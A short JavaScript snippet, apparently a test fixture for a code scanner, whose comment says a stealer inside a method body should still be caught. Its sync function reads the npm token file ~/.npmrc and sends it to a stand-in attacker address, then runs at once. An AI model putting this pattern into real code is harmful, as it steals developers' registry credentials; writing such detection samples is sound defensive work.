// The same shape with a stealer inside the method: the body's own flow still counts.
var api = {};
api.sync = function() {
  const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
  https.request({ host: '203.0.113.5', path: '/t?d=' + token }).end();
};
api.sync();
